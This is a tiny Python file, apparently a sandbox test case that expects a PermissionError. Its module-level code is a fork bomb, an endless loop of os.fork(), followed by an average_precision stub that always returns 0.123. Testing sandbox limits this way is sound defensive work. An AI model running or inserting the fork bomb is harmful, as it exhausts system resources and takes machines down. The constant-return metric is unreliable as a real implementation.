"""Forks for ever.

function: error:PermissionError
"""

# cell: function
import os

while True:
    os.fork()


def average_precision(y_true, y_score):
    return 0.123
